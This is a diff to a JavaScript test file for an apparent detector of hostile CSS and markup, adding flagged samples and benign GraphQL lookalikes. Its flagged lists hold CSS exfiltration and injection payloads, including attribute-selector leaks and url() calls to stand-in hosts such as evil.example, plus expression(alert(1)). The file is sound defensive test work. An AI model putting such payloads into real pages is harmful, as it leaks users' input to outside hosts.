@@ -46,11 +46,15 @@ flags('CSS rules that fetch, run script or hide words in comments', [
   'a{background:url(//evil.example/?q=secret)}', 'input[value^=a]{background:url(https://e.example/a)}',
   '@import url(//evil.example/x.css);', 'body{color:r/**/ed !/**/important}', 'x{width:expr/**/ession(alert(1))}',
   'li:nth-child(2) {background-image: url(x)}', '@font-face{font-family:f;src:url(//e.example/f.woff)}',
+  'a{background:url(data:image/svg+xml;base64,AAAA)}', 'b{x:expression(alert(1))}',
 ]);
 clean('braces that are not CSS rules', [
   'if (x) { a: 1 }', "const style = {background: 'url(x)'}", '{"a":{"b":"url(x)"}}', 'Hello {{first_name}}, see {url: x}',
   '{color: red}', 'a { color: red }', 'div {color: red; /* note */ }', 'Price {price} USD: url(x)', '@import is a sass directive',
   'function f() {return url(x)}', 'else {note: see url(x)}',
+  // GraphQL selections with aliased fields that take arguments
+  '{ image { small: url(size: 2) } }', 'query { p(id: 1) { title thumb: url(transform: {maxWidth: 100}) } }',
+  '{ product { img: url(transform:{maxWidth:100}) } }',
 ]);
 
 flags('XML namespace and DTD fragments', [
